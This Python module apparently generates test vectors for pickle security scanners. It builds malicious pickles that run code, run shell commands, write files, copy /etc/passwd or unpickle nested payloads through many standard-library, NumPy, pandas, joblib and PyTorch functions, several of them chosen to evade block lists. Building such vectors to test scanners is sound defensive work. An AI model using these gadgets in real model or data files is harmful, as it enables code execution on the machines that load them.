"""Functions that run code, run commands or write files when a pickle calls them, for `vectors.py`.

They are of the standard library, NumPy, pandas, joblib and PyTorch, and are named in Hide and Seek (arXiv 2508.19774), in
the advisories of picklescan and fickling, or do the same as one of those. A group is what the call does. Each function
yields a name and instructions, which create a file `marker`.
"""

import marshal

from calls import (
    CODE, COMMAND, SHELL, bytes_of, call, data, dict_of, import_os, items, methods, name, named, whole, with_state,
)

BESIDE = {
    "beside.py": CODE + "\n",
    "beside.pth": "import pathlib; %s\n" % CODE,
    "beside.txt": ">>> %s\n" % CODE,
    "beside.pkl": whole(call("os:system", COMMAND)),
}
"""Files in the folder of the file that is loaded, by which `beside` executes something. None of them is scanned."""

OS_SYSTEM = named("os:system")
INNER = whole(call("os:system", COMMAND))
PARTIAL = call("functools:partial", OS_SYSTEM, COMMAND)
NAMESPACE = call("types:SimpleNamespace")
MAP = call("builtins:map", OS_SYSTEM, [COMMAND])
LOGGING = "\n".join((
    "[loggers]", "keys=root", "[handlers]", "keys=h", "[formatters]", "keys=",
    "[logger_root]", "handlers=h", "[handler_h]", "class=FileHandler", "args=('marker',)",
))


def gadgets():
    for group in (code, commands, files, through, names, unpickling, beside, torch):
        yield from group()


def code():
    """Python code."""
    compiled = marshal.dumps(compile(CODE, "", "exec"))
    profile, cprofile = call("profile:Profile"), call("cProfile:Profile")
    yield "builtins.eval", call("builtins:eval", CODE)
    yield "builtins.exec", call("builtins:exec", CODE)
    yield "builtins.compile", call("builtins:exec", call("builtins:compile", CODE, "", "exec"))
    yield "runpy._run_code", call("runpy:_run_code", CODE, {})
    yield "timeit.timeit", call("timeit:timeit", "pass", CODE)
    yield "timeit.repeat", call("timeit:repeat", "pass", CODE)
    yield "timeit.main", call("timeit:main", ["-n1", "-r1", CODE])
    yield "timeit.Timer.timeit", call("timeit:Timer.timeit", call("timeit:Timer", CODE), 1)
    yield "cProfile.run", call("cProfile:run", CODE)
    yield "cProfile.runctx", call("cProfile:runctx", CODE, {}, {})
    yield "cProfile.Profile.run", call("cProfile:Profile.run", cprofile, CODE)
    yield "cProfile.Profile.runctx", call("cProfile:Profile.runctx", cprofile, CODE, {}, {})
    yield "profile.run", call("profile:run", CODE)
    yield "profile.runctx", call("profile:runctx", CODE, {}, {})
    yield "profile.Profile.run", call("profile:Profile.run", profile, CODE)
    yield "profile.Profile.runctx", call("profile:Profile.runctx", profile, CODE, {}, {})
    yield "trace.Trace.run", call("trace:Trace.run", call("trace:Trace"), CODE)
    yield "trace.Trace.runctx", call("trace:Trace.runctx", call("trace:Trace"), CODE, {}, {})
    yield "bdb.Bdb.run", call("bdb:Bdb.run", call("bdb:Bdb"), CODE)
    yield "bdb.Bdb.runeval", call("bdb:Bdb.runeval", call("bdb:Bdb"), CODE)
    yield "bdb.Bdb.runctx", call("bdb:Bdb.runctx", call("bdb:Bdb"), CODE, {}, {})
    yield "pdb.run", call("pdb:run", CODE)
    debugger = call("pdb:Pdb", "tab", call("io:StringIO", "c\nc\nc\n"), call("io:StringIO"))
    yield "pdb.Pdb.run", call("pdb:Pdb.run", debugger, CODE)
    yield "pdb.Pdb.runeval", call("pdb:Pdb.runeval", debugger, CODE)
    yield "code.InteractiveInterpreter.runcode", call(
        "code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"), CODE
    )
    yield "code.InteractiveInterpreter.runsource", call(
        "code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), CODE
    )
    yield "code.interact", call("code:InteractiveConsole.push", call("code:InteractiveConsole"), CODE)
    yield "codeop.compile_command", call("builtins:exec", call("codeop:compile_command", CODE))
    yield "marshal.loads", call("builtins:exec", call("marshal:loads", bytes_of(compiled)))
    yield "types.FunctionType", call(
        call("types:FunctionType", call("marshal:loads", bytes_of(compiled)), call("builtins:globals"))
    )
    yield "doctest.debug_script", call("doctest:debug_script", CODE, True)
    yield "typing.ForwardRef", call("typing:ForwardRef._evaluate", call("typing:ForwardRef", CODE), {}, {}, call("builtins:frozenset"))
    yield "typing._eval_type", call("typing:_eval_type", call("typing:ForwardRef", CODE), {}, {})
    yield "_xxsubinterpreters.run_string", call("_xxsubinterpreters:run_string", call("_xxsubinterpreters:create"), CODE)
    yield "_interpreters.run_string", call("_interpreters:run_string", call("_interpreters:create"), CODE)
    yield "lib2to3.pgen2.pgen.ParserGenerator.make_label", call(
        "lib2to3.pgen2.pgen:ParserGenerator.make_label", None, with_state(NAMESPACE, labels=[]), "'' if %s else ''" % CODE
    )
    yield "idlelib.calltip.get_entity", call("idlelib.calltip:get_entity", CODE)
    yield "idlelib.calltip.Calltip.fetch_tip", call("idlelib.calltip:Calltip.fetch_tip", None, CODE)
    complete = call("idlelib.autocomplete:AutoComplete")
    yield "idlelib.autocomplete.AutoComplete.get_entity", call("idlelib.autocomplete:AutoComplete.get_entity", None, CODE)
    yield "idlelib.autocomplete.AutoComplete.fetch_completions", call(
        "idlelib.autocomplete:AutoComplete.fetch_completions", complete, CODE, 0
    )
    yield "idlelib.debugobj.ObjectTreeItem.SetText", call("idlelib.debugobj:ObjectTreeItem.SetText", None, CODE)
    yield "idlelib.run.Executive.runcode", call("idlelib.run:Executive.runcode", with_state(NAMESPACE, locals={}), CODE)
    console = with_state(NAMESPACE, executing=False, closing=False, beginexecuting=named("builtins:dict"))
    shell = with_state(
        NAMESPACE, tkconsole=console, rpcclt=None, debugger=None, locals={}, checklinecache=named("builtins:dict")
    )
    yield "idlelib.pyshell.ModifiedInterpreter.runcode", call("idlelib.pyshell:ModifiedInterpreter.runcode", shell, CODE)
    yield "idlelib.pyshell.ModifiedInterpreter.runcommand", call("idlelib.pyshell:ModifiedInterpreter.runcommand", shell, CODE)
    yield "test.support.script_helper", call("test.support.script_helper:spawn_python", "-c", CODE)
    yield "test.support.script_helper.assert_python_ok", call("test.support.script_helper:assert_python_ok", "-c", CODE)
    yield "numpy.testing.runstring", call("numpy.testing._private.utils:runstring", CODE, {})
    yield "numpy.testing.measure", call("numpy.testing._private.utils:measure", CODE, 1)
    yield "numpy.f2py.crackfortran.myeval", call("numpy.f2py.crackfortran:myeval", CODE, {}, {})
    yield "numpy.f2py.crackfortran.getlincoef", call("numpy.f2py.crackfortran:getlincoef", CODE, {})
    yield "numpy.f2py.crackfortran._eval_length", call("numpy.f2py.crackfortran:_eval_length", CODE, {})
    yield "numpy.f2py.crackfortran.param_eval", call("numpy.f2py.crackfortran:param_eval", CODE, {}, {})
    yield "numpy.f2py.capi_maps.getinit", call(
        "numpy.f2py.capi_maps:getinit", "a", dict_of(**{"=": "__import__('os').mkdir('marker')", "typespec": "complex"})
    )
    yield "pandas.eval", call(
        "pandas:eval", "f(c)", "pandas", "python", dict_of(f=OS_SYSTEM, c=COMMAND)
    )
    yield "logging.config.fileConfig, args", call(
        "logging.config:fileConfig", call("io:StringIO", LOGGING.replace("('marker',)", "(%s,)" % CODE))
    )
    # Tcl, which runs commands.
    yield "tkinter.Tcl", call(call("builtins:getattr", call("tkinter:Tcl"), "eval"), "exec touch marker")


def commands():
    """Commands."""
    yield "os.system", call("os:system", COMMAND)
    yield "posix.system", call("posix:system", COMMAND)
    yield "os.popen", call("os:popen", COMMAND)
    yield "os.spawnv", call("os:spawnv", 0, "/bin/sh", SHELL)
    yield "os.spawnvp", call("os:spawnvp", 0, "sh", SHELL)
    yield "os.spawnlp", call("os:spawnlp", 0, "sh", *SHELL)
    yield "os.posix_spawn", call("os:posix_spawn", "/bin/sh", SHELL, {})
    yield "os.posix_spawnp", call("os:posix_spawnp", "sh", SHELL, {})
    yield "posix.posix_spawn", call("posix:posix_spawn", "/bin/sh", SHELL, {})
    yield "os.execv", call("os:execv", "/bin/sh", SHELL)
    yield "os.execvp", call("os:execvp", "sh", SHELL)
    yield "posix.execv", call("posix:execv", "/bin/sh", SHELL)
    yield "subprocess.Popen", call("subprocess:Popen", SHELL)
    for function in ("run", "call", "check_call", "check_output"):
        yield "subprocess." + function, call("subprocess:" + function, SHELL)
    yield "subprocess.getoutput", call("subprocess:getoutput", COMMAND)
    yield "subprocess.getstatusoutput", call("subprocess:getstatusoutput", COMMAND)
    yield "_posixsubprocess.fork_exec", call(
        "_posixsubprocess:fork_exec", items(*(bytes_of(part.encode()) for part in SHELL)),
        b"(" + bytes_of(b"/bin/sh") + b"t", False, (), None, None, *[-1] * 7, 9, False, False, -1, None, None, None, -1,
        None, True,
    ) + b"0" + call("time:sleep", 0.2)
    yield "pty.spawn", call("pty:spawn", SHELL)
    yield "pydoc.pipepager", call("pydoc:pipepager", "", COMMAND)
    yield "pydoc.tempfilepager", call("pydoc:tempfilepager", "", COMMAND + ";true")
    yield "_pyrepl.pager.pipe_pager", call("_pyrepl.pager:pipe_pager", "", COMMAND)
    yield "_pyrepl.pager.tempfile_pager", call("_pyrepl.pager:tempfile_pager", "", COMMAND + ";true")
    yield "uuid._get_command_stdout", call("uuid:_get_command_stdout", "sh", "-c", COMMAND)
    yield "_osx_support._read_output", call("_osx_support:_read_output", COMMAND)
    yield "_osx_support._find_build_tool", call("_osx_support:_find_build_tool", ";" + COMMAND)
    yield "_aix_support._read_cmd_output", call("_aix_support:_read_cmd_output", COMMAND)
    yield "imaplib.IMAP4_stream", call("imaplib:IMAP4_stream", COMMAND)
    yield "webbrowser.GenericBrowser.open", call(
        "webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", SHELL), "x"
    )
    yield "webbrowser.BackgroundBrowser.open", call(
        "webbrowser:BackgroundBrowser.open", call("webbrowser:BackgroundBrowser", SHELL), "x"
    )
    yield "multiprocessing.util.spawnv_passfds", call("multiprocessing.util:spawnv_passfds", bytes_of(b"/bin/sh"), SHELL, ())
    yield "asyncio.run", call("asyncio.runners:run", call("asyncio.subprocess:create_subprocess_shell", COMMAND))
    yield "asyncio.unix_events._UnixSubprocessTransport._start", call(
        "asyncio.unix_events:_UnixSubprocessTransport._start", NAMESPACE, COMMAND, True, None, None, None, 0
    )
    yield "pipes.Template.copy", methods(
        call("pipes:Template"), ("pipes:Template.append", COMMAND, "--"), ("pipes:Template.copy", "/dev/null", "out")
    )
    yield "mailcap.findmatch", call("mailcap:findmatch", {"a/b": [{"view": "x", "test": COMMAND}]}, "a/b")
    yield "distutils.spawn.spawn", call("distutils.spawn:spawn", SHELL)
    yield "ctypes.CDLL", call(call("builtins:getattr", call("ctypes:CDLL", None), "system"), bytes_of(COMMAND.encode()))
    yield "ctypes.pydll", call(call("ctypes:PyDLL.__getattr__", call("ctypes:PyDLL", None), "system"), bytes_of(COMMAND.encode()))
    yield "pip.main", call("pip._internal.utils.subprocess:call_subprocess", SHELL)
    yield "numpy.f2py.diagnose.run_command", call("numpy.f2py.diagnose:run_command", COMMAND)
    yield "numpy.distutils.exec_command.exec_command", call("numpy.distutils.exec_command:exec_command", COMMAND)
    yield "numpy.distutils.exec_command._exec_command", call("numpy.distutils.exec_command:_exec_command", COMMAND)


def files():
    """Files that are created."""
    path = call("pathlib:PosixPath", "marker")
    yield "builtins.open", call("builtins:open", "marker", "w")
    yield "os.mkdir", call("os:mkdir", "marker")
    yield "os.makedirs", call("os:makedirs", "marker")
    yield "os.open", call("os:open", "marker", 0o101)
    yield "os.symlink", call("os:symlink", "/", "marker")
    yield "os.mkfifo", call("os:mkfifo", "marker")
    yield "posix.open", call("posix:open", "marker", 0o101)
    yield "io.open", call("io:open", "marker", "w")
    yield "_io.FileIO", call("_io:FileIO", "marker", "w")
    yield "codecs.open", call("codecs:open", "marker", "w")
    yield "argparse.FileType", call(call("argparse:FileType", "w"), "marker")
    yield "pathlib.Path.touch", call("pathlib:Path.touch", path)
    yield "pathlib.Path.mkdir", call("pathlib:Path.mkdir", path)
    yield "pathlib.Path.write_text", call("pathlib:Path.write_text", path, "x")
    yield "pathlib.Path.write_bytes", call("pathlib:Path.write_bytes", path, bytes_of(b"x"))
    yield "logging.FileHandler", call("logging:FileHandler", "marker")
    yield "logging.handlers.RotatingFileHandler", call("logging.handlers:RotatingFileHandler", "marker")
    yield "logging.config.fileConfig", call("logging.config:fileConfig", call("io:StringIO", LOGGING))
    yield "shutil.copyfile", call("shutil:copyfile", "/etc/passwd", "marker")
    yield "shutil.copy", call("shutil:copy", "/etc/passwd", "marker")
    yield "shutil.copytree", call("shutil:copytree", "/etc/alternatives", "marker", True)
    yield "shutil.make_archive", call("shutil:make_archive", "marker", "tar", "/etc/alternatives")
    yield "shelve.open", call("shelve:open", "marker")
    yield "dbm.dumb.open", call("dbm.dumb:open", "marker", "c")
    yield "mailbox.mbox", call("mailbox:mbox", "marker")
    yield "mailbox.Maildir", call("mailbox:Maildir", "marker")
    yield "tempfile.mkdtemp", call("tempfile:mkdtemp", "", "marker", ".")
    yield "tempfile.mkstemp", call("tempfile:mkstemp", "", "marker", ".")
    yield "zipfile.ZipFile", call("zipfile:ZipFile", "marker", "w")
    yield "tarfile.open", call("tarfile:TarFile.open", "marker", "w")
    yield "sqlite3.connect", call("sqlite3:connect", "marker")
    yield "_sqlite3.connect", call("_sqlite3:connect", "marker")
    yield "gzip.open", call("gzip:open", "marker", "w")
    yield "bz2.open", call("bz2:BZ2File", "marker", "w")
    yield "lzma.open", call("lzma:LZMAFile", "marker", "w")
    yield "venv.create", call("venv:create", "marker")
    yield "ensurepip._run_pip", call("ensurepip:_run_pip", ["--log", "marker", "list"])
    yield "distutils.file_util.write_file", call("distutils.file_util:write_file", "marker", ["x"])
    yield "distutils.dir_util.mkpath", call("distutils.dir_util:mkpath", "marker")
    yield "numpy.memmap", call("numpy:memmap", "marker", "uint8", "w+", 0, (1,))
    yield "numpy.save", call("numpy:save", "marker", [1.0])
    yield "numpy.savez", call("numpy:savez", "marker", [1.0])
    yield "numpy.savetxt", call("numpy:savetxt", "marker", [1.0])
    yield "numpy.ndarray.tofile", call("numpy:ndarray.tofile", call("numpy:array", [1]), "marker")
    yield "numpy.ndarray.dump", call("numpy:ndarray.dump", call("numpy:array", [1]), "marker")
    yield "pandas.io.common.get_handle", call("pandas.io.common:get_handle", "marker", "w")
    yield "pandas.DataFrame.to_csv", call("pandas:DataFrame.to_csv", call("pandas:DataFrame"), "marker")
    yield "pandas.Series.to_pickle", call("pandas:Series.to_pickle", call("pandas:Series", [1]), "marker")
    yield "joblib.dump", call("joblib:dump", [1], "marker")


def through():
    """Functions that call another one."""
    yield "builtins.map", call("builtins:list", MAP)
    yield "builtins.filter", call("builtins:next", call("builtins:filter", named("os:mkdir"), ["marker"]), None)
    yield "builtins.iter", call("builtins:next", call("builtins:iter", PARTIAL, 7))
    yield "builtins.sum", call("builtins:sum", MAP)
    yield "builtins.bytes", call("builtins:bytes", MAP)
    yield "collections.deque", call("collections:deque", MAP)
    yield "array.array", call("array:array", "b", MAP)
    yield "numpy.fromiter", call("numpy:fromiter", MAP, "i4")
    yield "builtins.property", call("builtins:property.__get__", call("builtins:property", OS_SYSTEM), COMMAND, None)
    yield "builtins.classmethod", call(call("builtins:classmethod.__get__", call("builtins:classmethod", OS_SYSTEM), None, COMMAND))
    yield "types.MethodType", call(call("types:MethodType", OS_SYSTEM, COMMAND))
    yield "itertools.starmap", call("builtins:list", call("itertools:starmap", OS_SYSTEM, [(COMMAND,)]))
    yield "itertools.accumulate", call(
        "builtins:list", call("itertools:accumulate", items(OS_SYSTEM, COMMAND), named("operator:call"))
    )
    yield "itertools.groupby", call("builtins:list", call("itertools:groupby", [COMMAND], OS_SYSTEM))
    yield "functools.partial", call(PARTIAL)
    yield "functools.lru_cache", call(call(call("functools:lru_cache", None), OS_SYSTEM), COMMAND)
    yield "functools.reduce", call(
        call("functools:reduce", named("builtins:getattr"), b"(" + import_os() + data("system") + b"t"), COMMAND
    )
    yield "operator.call", call("operator:call", OS_SYSTEM, COMMAND)
    yield "copy._reconstruct", call("copy:_reconstruct", None, None, OS_SYSTEM, (COMMAND,))
    yield "importlib._bootstrap._call_with_frames_removed", call(
        "importlib._bootstrap:_call_with_frames_removed", OS_SYSTEM, COMMAND
    )
    yield "_frozen_importlib._call_with_frames_removed", call(
        "_frozen_importlib:_call_with_frames_removed", OS_SYSTEM, COMMAND
    )
    yield "contextlib.ExitStack", methods(
        call("contextlib:ExitStack"), ("contextlib:ExitStack.callback", OS_SYSTEM, COMMAND), ("contextlib:ExitStack.close",)
    )
    yield "sched.scheduler", methods(
        call("sched:scheduler"), ("sched:scheduler.enter", 0, 1, OS_SYSTEM, (COMMAND,)), ("sched:scheduler.run",)
    )
    yield "bdb.Bdb.runcall", call("bdb:Bdb.runcall", call("bdb:Bdb"), OS_SYSTEM, COMMAND)
    yield "cProfile.Profile.runcall", call("cProfile:Profile.runcall", call("cProfile:Profile"), OS_SYSTEM, COMMAND)
    yield "profile.Profile.runcall", call("profile:Profile.runcall", call("profile:Profile"), OS_SYSTEM, COMMAND)
    yield "trace.Trace.runfunc", call("trace:Trace.runfunc", call("trace:Trace"), OS_SYSTEM, COMMAND)
    yield "distutils.util.execute", call("distutils.util:execute", OS_SYSTEM, (COMMAND,))
    yield "unittest.FunctionTestCase", call("unittest:FunctionTestCase.runTest", call("unittest:FunctionTestCase", PARTIAL))
    yield "unittest.TestCase.assertRaises", call(
        "unittest:TestCase.assertRaises", call("unittest:TestCase"), named("builtins:ValueError"), OS_SYSTEM, COMMAND
    )
    yield "threading.Thread", call("threading:Thread.start", call("threading:Thread", None, OS_SYSTEM, None, (COMMAND,)))
    yield "threading.Timer", call("threading:Timer.run", call("threading:Timer", 0, OS_SYSTEM, (COMMAND,)))
    yield "_thread.start_new_thread", call("_thread:start_new_thread", OS_SYSTEM, (COMMAND,)) + b"0" + call("time:sleep", 0.2)
    yield "multiprocessing.Process", call(
        "multiprocessing.context:Process.run", call("multiprocessing.context:Process", None, OS_SYSTEM, None, (COMMAND,))
    )
    yield "multiprocessing.pool.ThreadPool", call(
        "multiprocessing.pool:ThreadPool.apply", call("multiprocessing.pool:ThreadPool", 1), OS_SYSTEM, (COMMAND,)
    )
    yield "atexit.register", call("atexit:register", OS_SYSTEM, COMMAND)
    yield "weakref.finalize", call("weakref:finalize", named("builtins:dict"), OS_SYSTEM, COMMAND)
    yield "concurrent.futures", call(
        "concurrent.futures.thread:ThreadPoolExecutor.submit", call("concurrent.futures.thread:ThreadPoolExecutor"),
        OS_SYSTEM, COMMAND,
    )
    yield "asyncio.events.Handle", call(
        "asyncio.events:Handle._run",
        call("asyncio.events:Handle", OS_SYSTEM, (COMMAND,), with_state(NAMESPACE, get_debug=named("builtins:dict"))),
    )
    yield "logging.config.dictConfig", call(
        "logging.config:dictConfig",
        {"version": 1, "formatters": {"f": {"()": "os.system", "command": COMMAND}}},
    )
    yield "numpy.frompyfunc", call(call("numpy:frompyfunc", OS_SYSTEM, 1, 1), COMMAND)
    yield "numpy.vectorize", call("numpy:vectorize.__call__", call("numpy:vectorize", OS_SYSTEM), COMMAND)
    yield "numpy.fromfunction", call("numpy:fromfunction", PARTIAL, ())
    yield "numpy.loadtxt", call("numpy:loadtxt", [COMMAND], "f8", "#", ",", b"}K\0" + OS_SYSTEM + b"s")
    yield "numpy.testing.assert_raises", call("numpy.testing:assert_raises", named("builtins:ValueError"), OS_SYSTEM, COMMAND)
    yield "numpy.testing.assert_no_warnings", call("numpy.testing:assert_no_warnings", OS_SYSTEM, COMMAND)
    yield "pandas.Series.map", call("pandas:Series.map", call("pandas:Series", [COMMAND]), OS_SYSTEM)
    yield "pandas.Series.apply", call("pandas:Series.apply", call("pandas:Series", [COMMAND]), OS_SYSTEM)
    yield "pandas.core.common.pipe", call("pandas.core.common:pipe", COMMAND, OS_SYSTEM)
    yield "pandas.core.common.apply_if_callable", call("pandas.core.common:apply_if_callable", OS_SYSTEM, COMMAND)
    yield "joblib.parallel.BatchedCalls", call(
        "joblib.parallel:BatchedCalls.__call__",
        call("joblib.parallel:BatchedCalls", items(b"(" + OS_SYSTEM + b"(" + data(COMMAND) + b"t}t"),
             b"(" + with_state(NAMESPACE, nesting_level=0) + b"K\1t"),
    )


def names():
    """Functions that find another one by its name."""
    yield "builtins.__import__", call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), COMMAND)
    yield "builtins.vars", call(call("operator:getitem", call("builtins:vars", import_os()), "system"), COMMAND)
    yield "importlib.import_module", call(call("builtins:getattr", import_os(), "system"), COMMAND)
    yield "importlib.__import__", call(call("builtins:getattr", call("importlib:__import__", "os"), "system"), COMMAND)
    yield "_frozen_importlib._gcd_import", call(
        call("builtins:getattr", call("_frozen_importlib:_gcd_import", "os"), "system"), COMMAND
    )
    yield "operator.attrgetter", call(call(call("operator:attrgetter", "system"), import_os()), COMMAND)
    yield "operator.methodcaller", call(call("operator:methodcaller", "system", COMMAND), import_os())
    yield "operator.itemgetter", call(call(call("operator:itemgetter", "system"), name("os", "__dict__")), COMMAND)
    yield "inspect.getattr_static", call(call("inspect:getattr_static", import_os(), "system"), COMMAND)
    yield "pydoc.locate", call(call("pydoc:locate", "os.system"), COMMAND)
    yield "pydoc.safeimport", call(call("builtins:getattr", call("pydoc:safeimport", "os"), "system"), COMMAND)
    yield "pydoc.resolve", call(call("operator:getitem", call("pydoc:resolve", "os.system"), 0), COMMAND)
    yield "pkgutil.resolve_name", call(call("pkgutil:resolve_name", "os:system"), COMMAND)
    yield "xmlrpc.server.resolve_dotted_attribute", call(
        call("xmlrpc.server:resolve_dotted_attribute", named("shutil:os"), "system"), COMMAND
    )
    yield "unittest.mock._importer", call(call("builtins:getattr", call("unittest.mock:_importer", "os"), "system"), COMMAND)
    yield "unittest.mock._get_target", call(
        call("builtins:getattr", call(call("operator:getitem", call("unittest.mock:_get_target", "os.system"), 0)), "system"),
        COMMAND,
    )
    yield "logging.config._resolve", call(call("logging.config:_resolve", "os.system"), COMMAND)
    yield "sys.modules", call(
        call("builtins:getattr", call("operator:getitem", name("sys", "modules"), "os"), "system"), COMMAND
    )
    yield "joblib.externals.cloudpickle.subimport", call(
        call("builtins:getattr", call("joblib.externals.cloudpickle.cloudpickle:subimport", "os"), "system"), COMMAND
    )


def unpickling():
    """Functions that unpickle bytes of the pickle."""
    stream = call("io:BytesIO", bytes_of(INNER))
    yield "pickle.loads", call("pickle:loads", bytes_of(INNER))
    yield "pickle.load", call("pickle:load", stream)
    yield "_pickle.loads", call("_pickle:loads", bytes_of(INNER))
    yield "_pickle.load", call("_pickle:load", stream)
    yield "pickle._loads", call("pickle:_loads", bytes_of(INNER))
    yield "pickle.Unpickler.load", call("pickle:Unpickler.load", call("pickle:Unpickler", stream))
    yield "pickle._Unpickler.load", call("pickle:_Unpickler.load", call("pickle:_Unpickler", stream))
    yield "multiprocessing.reduction", call("multiprocessing.reduction:ForkingPickler.loads", bytes_of(INNER))
    yield "lib2to3.pgen2.grammar.Grammar.loads", call(
        "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), bytes_of(INNER)
    )
    yield "numpy.load", call("numpy:load", stream, None, True)
    yield "pandas.read_pickle", call("pandas:read_pickle", stream, None)
    yield "joblib.load", call("joblib:load", stream)
    yield "joblib.numpy_pickle._unpickle", call("joblib.numpy_pickle:_unpickle", stream, "", None)
    yield "joblib.externals.cloudpickle.loads", call("joblib.externals.cloudpickle:loads", bytes_of(INNER))


def beside():
    """Functions that run or unpickle a file beside the one that is loaded: see `BESIDE`."""
    yield "an import of a module beside it", name("beside", "__name__")
    yield "importlib.import_module of a module beside it", call("importlib:import_module", "beside")
    yield "runpy.run_path", call("runpy:run_path", "beside.py")
    yield "runpy.run_module", call("runpy:run_module", "beside")
    yield "imp.load_source", call("imp:load_source", "beside", "beside.py")
    yield "importlib.machinery.SourceFileLoader", call(
        "importlib.machinery:SourceFileLoader.load_module", call("importlib.machinery:SourceFileLoader", "b", "beside.py")
    )
    yield "pydoc.importfile", call("pydoc:importfile", "beside.py")
    yield "site.addpackage", call("site:addpackage", ".", "beside.pth", call("builtins:set"))
    yield "site.addsitedir", call("site:addsitedir", ".")
    yield "doctest.testfile", call("doctest:testfile", "beside.txt", False)
    yield "distutils.core.run_setup", call("distutils.core:run_setup", "beside.py")
    yield "unittest.main", call("unittest:main", "beside")
    yield "numpy.load of a file beside it", call("numpy:load", "beside.pkl", None, True)
    yield "pandas.read_pickle of a file beside it", call("pandas:read_pickle", "beside.pkl", None)
    yield "joblib.load of a file beside it", call("joblib:load", "beside.pkl")


def torch():
    """Functions of PyTorch."""
    stream = call("io:BytesIO", bytes_of(INNER))
    yield "torch.load", call("torch.serialization:load", stream)
    yield "torch.utils.collect_env.run", call("torch.utils.collect_env:run", COMMAND)
    yield "torch.utils.collect_env.run_and_read_all", call("torch.utils.collect_env:run_and_read_all", OS_SYSTEM, COMMAND)
    yield "torch.utils.bottleneck.run_cprofile", call("torch.utils.bottleneck.__main__:run_cprofile", CODE, {})
    yield "torch.utils.bottleneck.run_autograd_prof", call("torch.utils.bottleneck.__main__:run_autograd_prof", CODE, {})
    yield "torch.jit.unsupported_tensor_ops.execWrapper", call("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {})
    yield "torch.fx.graph_module._exec_with_source", call("torch.fx.graph_module:_exec_with_source", CODE, {})
    yield "torch.utils.data.datapipes.utils.decoder.basichandlers", call(
        "torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", bytes_of(INNER)
    )
    yield "torch._dynamo.guards.GuardBuilder.get", call(
        "torch._dynamo.guards:GuardBuilder.get", with_state(NAMESPACE, scope={}), CODE
    )
    yield "torch.fx.experimental.symbolic_shapes.ShapeEnv", call(
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression", None, CODE, []
    )
    yield "torch.utils._config_module.ConfigModule.load_config", call(
        "torch.utils._config_module:ConfigModule.load_config", None, bytes_of(INNER)
    )
    yield "torch._inductor.codecache.compile_file", call(
        "torch._inductor.codecache:compile_file", "", "", ["sh", "-c", COMMAND]
    )


def of_python_2():
    """Yields a name and a pickle of protocol 2, which Python 2.7 loads."""
    shell = b"S'%s'\n" % COMMAND.encode()
    yield "__builtin__.apply", b"\x80\x02c__builtin__\napply\n(cos\nsystem\n(" + shell + b"ttR."
    yield "__builtin__.execfile", b"\x80\x02c__builtin__\nexecfile\n(S'beside.py'\ntR."
    yield "__builtin__.file", b"\x80\x02c__builtin__\nfile\n(S'marker'\nS'w'\ntR."
    yield "os.popen2", b"\x80\x02cos\npopen2\n(" + shell + b"tR."
    yield "popen2.popen2", b"\x80\x02cpopen2\npopen2\n(" + shell + b"tR."
    yield "commands.getstatusoutput", b"\x80\x02ccommands\ngetstatusoutput\n(" + shell + b"tR."
    yield "cPickle.loads", b"\x80\x02ccPickle\nloads\n(S\"cos\\nsystem\\n(S'" + COMMAND.encode() + b"'\\ntR.\"\ntR."
    yield "new.function", b"\x80\x02cnew\ninstancemethod\n(cos\nsystem\n" + shell + b"c__builtin__\nstr\ntR(tR."
